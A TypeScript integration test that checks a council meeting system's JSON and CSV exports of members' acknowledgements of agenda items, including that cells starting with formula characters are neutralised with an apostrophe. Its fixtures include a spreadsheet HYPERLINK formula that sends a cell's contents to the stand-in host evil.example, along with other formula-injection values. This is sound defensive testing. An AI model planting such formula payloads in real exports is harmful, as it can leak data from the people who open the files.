import { parse } from 'csv-parse/sync';
import { DEMO_IDS, DEMO_PEOPLE } from '../../src/services/demo/demo-council';
import { seedDemoCouncil } from '../../src/services/demo/seed-demo-council';
import type { Store } from '../../src/store/port';
import { startAppOnStore, type AppOnStore } from '../support/app-on-store';
import type { TestApp } from '../support/start-test-app';

const OFFICER_TOKEN = 'local-officer-token-0123456789';
const BOM = '\uFEFF';

/** Cells a spreadsheet would run: names, seats, titles and Teams ids come from people and imports, so any may begin so. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const HOSTILE_SEAT = '+44 Member';
const HOSTILE_TITLE = '\t@SUM(1+1) Item'; // no item number, so the column's heading begins with the tab
const HOSTILE_CONVERSATION = '\r-2+3';
const LEFT_AT_LONDON = '2026-11-20 10:32:05'; // 10:32:05Z in November is GMT

async function seed(store: Store): Promise<void> {
  await seedDemoCouncil(store, new Date());
  await store.members.create({
    id: 'cllr-mallory', name: HOSTILE_NAME, role: 'councillor', title: 'Member', committees: [{ committeeId: DEMO_IDS.cabinet, seat: HOSTILE_SEAT }],
  });
  // A former Cabinet member (end date passed) who never read it: not outstanding, in JSON or in either file.
  await store.members.create({
    id: 'cllr-former', name: 'Cllr Former Member', role: 'councillor', endsOn: '2020-05-07', committees: [{ committeeId: DEMO_IDS.cabinet, seat: 'Member' }],
  });
  const at = new Date().toISOString();
  await store.agendaItems.create({
    id: 'item-hostile-title', committeeId: DEMO_IDS.cabinet, meetingId: DEMO_IDS.nextCabinet, title: HOSTILE_TITLE, titleAsPublished: HOSTILE_TITLE,
    summary: '', recommendations: [], documents: [], forDecision: true, exempt: false, history: [], createdAt: at, updatedAt: at,
  });
  await store.acknowledgements.create({
    agendaItemId: 'item-safer-streets', committeeId: DEMO_IDS.cabinet, memberId: DEMO_PEOPLE.leader.id, acknowledgedAt: '2026-11-20T10:32:05.000Z',
    via: { channel: 'teams', conversationId: 'a:personal-leader', activityId: 'act-1' },
  });
  await store.acknowledgements.create({
    agendaItemId: 'item-safer-streets', committeeId: DEMO_IDS.cabinet, memberId: 'cllr-mallory', acknowledgedAt: '2026-11-21T09:00:00.000Z',
    via: { channel: 'teams', conversationId: HOSTILE_CONVERSATION },
  });
  // Someone since removed from the roster: their acknowledgement stays the council's record.
  await store.acknowledgements.create({
    agendaItemId: 'item-hostile-title', committeeId: DEMO_IDS.cabinet, memberId: 'cllr-gone', acknowledgedAt: '2026-11-22T12:00:00.000Z', via: { channel: 'api' },
  });
}

/** What a spreadsheet would read: every row, the neutralising apostrophe taken off again. */
function readAsSpreadsheet(text: string): string[][] {
  expect(text.startsWith(BOM)).toBe(true);
  expect(text.slice(1).startsWith(BOM)).toBe(false);
  const rows = parse(text, { bom: true, relax_column_count: false }) as string[][];
  for (const cell of rows.flat()) {
    // No cell a spreadsheet would run as a formula: each such first character is behind an apostrophe.
    expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
  }
  return rows.map((row) => row.map((cell) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell)));
}

describe.each(['embedded', 'cosmos'] as const)('acknowledgements for the file (%s store)', (kind) => {
  let running: AppOnStore;
  let app: TestApp;

  beforeAll(async () => {
    running = await startAppOnStore(kind, { OFFICER_API_TOKEN: OFFICER_TOKEN }, seed);
    app = running.app;
  }, 60_000);
  afterAll(() => running?.stop());

  const get = (route: string, headers: Record<string, string> = {}) => fetch(`${app.url}${route}`, { headers: { authorization: `Bearer ${OFFICER_TOKEN}`, ...headers } });

  it('answers an item\'s record as JSON: who, role, seat, when and how, oldest first, and who is outstanding', async () => {
    const res = await get('/api/v1/agenda-items/item-safer-streets/acknowledgements');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const body = (await res.json()) as { item: unknown; acknowledged: unknown[]; outstanding: Array<{ memberId: string }> };
    expect(body.item).toEqual({ id: 'item-safer-streets', committeeId: DEMO_IDS.cabinet, meetingId: DEMO_IDS.nextCabinet, number: '6', title: 'Safer Streets Fund: Town Centre Lighting and CCTV', exempt: false });
    expect(body.acknowledged).toEqual([
      { memberId: DEMO_PEOPLE.leader.id, name: 'Cllr Joe Orson', role: 'councillor', seat: 'Leader', acknowledgedAt: '2026-11-20T10:32:05.000Z', via: { channel: 'teams', conversationId: 'a:personal-leader', activityId: 'act-1' } },
      { memberId: 'cllr-mallory', name: HOSTILE_NAME, role: 'councillor', seat: HOSTILE_SEAT, acknowledgedAt: '2026-11-21T09:00:00.000Z', via: { channel: 'teams', conversationId: HOSTILE_CONVERSATION } },
    ]);
    expect(body.outstanding).toEqual([{ memberId: DEMO_PEOPLE.housing.id, name: 'Cllr Alan Pearson', role: 'councillor', seat: 'Portfolio Holder for Housing and Communities' }]);
  });

  it('answers the same as CSV with Accept: text/csv, which a spreadsheet reads back field for field and runs nothing of', async () => {
    const res = await get('/api/v1/agenda-items/item-safer-streets/acknowledgements', { accept: 'text/csv' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="acknowledgements-item-safer-streets.csv"');
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    expect(text).toContain('\r\n');
    expect(readAsSpreadsheet(text)).toEqual([
      ['Member id', 'Name', 'Role', 'Seat', 'Status', 'Acknowledged at (London)', 'Acknowledged at (UTC)', 'How', 'Teams conversation', 'Teams message'],
      [DEMO_PEOPLE.leader.id, 'Cllr Joe Orson', 'councillor', 'Leader', 'acknowledged', LEFT_AT_LONDON, '2026-11-20T10:32:05.000Z', 'Teams card', 'a:personal-leader', 'act-1'],
      ['cllr-mallory', HOSTILE_NAME, 'councillor', HOSTILE_SEAT, 'acknowledged', '2026-11-21 09:00:00', '2026-11-21T09:00:00.000Z', 'Teams card', HOSTILE_CONVERSATION, ''],
      [DEMO_PEOPLE.housing.id, 'Cllr Alan Pearson', 'councillor', 'Portfolio Holder for Housing and Communities', 'outstanding', '', '', '', '', ''],
    ]);
  });

  it('answers a meeting\'s record member by item, as JSON and as CSV', async () => {
    const json = (await (await get(`/api/v1/meetings/${DEMO_IDS.nextCabinet}/acknowledgements`)).json()) as { items: Array<{ item: { id: string } }> };
    expect(json.items.map((i) => i.item.id)).toEqual(['item-hra-budget-monitoring', 'item-safer-streets', 'item-land-disposal', 'item-hostile-title']);

    const res = await get(`/api/v1/meetings/${DEMO_IDS.nextCabinet}/acknowledgements`, { accept: 'application/json;q=0.5, text/csv' });
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const rows = readAsSpreadsheet(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer()));
    expect(rows).toEqual([
      ['Member id', 'Name', 'Role', 'Seat', '5. Housing Revenue Account Budget Monitoring: Quarter 2', '6. Safer Streets Fund: Town Centre Lighting and CCTV', '7. Disposal of Land at Nottingham Road', HOSTILE_TITLE],
      // By name as a spreadsheet sorts it (symbols before letters); someone no longer on the roster last.
      ['cllr-mallory', HOSTILE_NAME, 'councillor', HOSTILE_SEAT, 'outstanding', '2026-11-21 09:00:00', 'outstanding', 'outstanding'],
      [DEMO_PEOPLE.housing.id, 'Cllr Alan Pearson', 'councillor', 'Portfolio Holder for Housing and Communities', 'outstanding', 'outstanding', 'outstanding', 'outstanding'],
      [DEMO_PEOPLE.leader.id, 'Cllr Joe Orson', 'councillor', 'Leader', 'outstanding', LEFT_AT_LONDON, 'outstanding', 'outstanding'],
      ['cllr-gone', '(no longer on the roster)', '', '', '', '', '', '2026-11-22 12:00:00'],
    ]);
  });

  it('puts the apostrophe before what a spreadsheet would run, in a header cell too, and keeps the rest whole', async () => {
    const res = await get(`/api/v1/meetings/${DEMO_IDS.nextCabinet}/acknowledgements`, { accept: 'text/csv' });
    const raw = parse(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer()), { bom: true }) as string[][];
    expect(raw[0]?.[7]).toBe(`'${HOSTILE_TITLE}`);
    expect(raw[1]?.[1]).toBe(`'${HOSTILE_NAME}`);
    expect(raw[1]?.[3]).toBe(`'${HOSTILE_SEAT}`);
  });

  it('answers 404 problem+json for an unknown item or meeting, and 401 without a token', async () => {
    for (const route of ['/api/v1/agenda-items/item-none/acknowledgements', '/api/v1/meetings/meeting-none/acknowledgements']) {
      const res = await get(route, { accept: 'text/csv' });
      expect(res.status).toBe(404);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      await res.arrayBuffer();
    }
    const anonymous = await fetch(`${app.url}/api/v1/meetings/${DEMO_IDS.nextCabinet}/acknowledgements`);
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });
});
